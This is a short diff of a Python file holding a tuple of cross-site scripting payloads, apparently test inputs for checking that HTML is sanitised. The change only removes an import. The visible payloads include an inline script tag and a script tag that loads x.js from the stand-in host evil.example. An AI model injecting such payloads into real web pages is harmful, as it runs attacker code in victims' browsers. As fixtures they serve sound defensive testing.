@@ -1,7 +1,5 @@
 """What people write who want a script of theirs to run at others. Each would set `owned`, or open a dialog."""
 
-from __future__ import annotations
-
 PAYLOADS = (
     "<script>owned=1</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
